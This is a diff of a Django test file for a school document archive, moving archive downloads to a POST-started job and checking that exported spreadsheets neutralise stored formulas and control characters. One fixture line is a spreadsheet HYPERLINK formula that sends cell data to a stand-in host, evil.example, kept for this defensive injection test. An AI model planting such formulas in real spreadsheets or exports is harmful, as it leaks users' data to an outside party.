@@ -17,15 +17,28 @@ from apps.programs.models import Meeting, Task
 from apps.programs.programme import programme_for
 
 
-def test_the_archive_holds_everything_an_inspector_asks_for(curator_client, school, world):  # noqa: F811
+def download_archive(client, school, capture, year="2026/2027"):
+    """Start the archive job as the page does, follow it to its end and fetch the file."""
+    with capture(execute=True):
+        started = client.post(reverse("documents:archive", args=[school.pk]), {"year": year})
+    assert started.status_code == 302
+    page = client.get(started["Location"])
+    assert "Скачать «" in page.content.decode()
+    return client.get(started["Location"] + "file/")
+
+
+def test_the_archive_holds_everything_an_inspector_asks_for(
+    curator_client,
+    school,
+    world,  # noqa: F811
+    django_capture_on_commit_callbacks,
+):
     day = datetime.date(2026, 11, 25)
     signed = issue(org=school, kind=DocKind.PAIRS, by=None, day=day, unit_ids=[world["unit"].pk])
     attach_scan(signed, SimpleUploadedFile("signed.pdf", PDF), by=None)
     issue(org=school, kind=DocKind.CURATOR, by=None, day=day)  # a draft: not in the archive
     Meeting.objects.create(unit=world["unit"], date=day, topic="Разбор урока", outcome="Итоги")
-    response = curator_client.get(
-        reverse("documents:archive", args=[school.pk]) + "?year=2026/2027"
-    )
+    response = download_archive(curator_client, school, django_capture_on_commit_callbacks)
     assert response["Content-Type"] == "application/zip"
     archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
     names = archive.namelist()
@@ -42,8 +55,8 @@ def test_the_archive_holds_everything_an_inspector_asks_for(curator_client, scho
 
 def test_a_malformed_year_is_400(curator_client, school):
     url = reverse("documents:archive", args=[school.pk])
-    assert curator_client.get(url + "?year=2026/2030").status_code == 400
-    assert curator_client.get(url + "?year=abc").status_code == 400
+    assert curator_client.post(url, {"year": "2026/2030"}).status_code == 400
+    assert curator_client.post(url, {"year": "abc"}).status_code == 400
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Подробнее")'
@@ -53,6 +66,7 @@ def test_it_archives_stored_formulas_and_control_characters_as_plain_text(
     curator_client,
     school,
     world,  # noqa: F811
+    django_capture_on_commit_callbacks,
 ):
     day = datetime.date(2026, 11, 25)
     signed = issue(org=school, kind=DocKind.PAIRS, by=None, day=day, unit_ids=[world["unit"].pk])
@@ -66,9 +80,7 @@ def test_it_archives_stored_formulas_and_control_characters_as_plain_text(
         programme=programme_for(world["unit"]), direction="Методика\x1b", title="Урок\x0b",
         deadline=day, responsible=world["mentor"],
     )  # fmt: skip
-    response = curator_client.get(
-        reverse("documents:archive", args=[school.pk]) + "?year=2026/2027"
-    )
+    response = download_archive(curator_client, school, django_capture_on_commit_callbacks)
     assert response.status_code == 200
     archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
     diary = openpyxl.load_workbook(
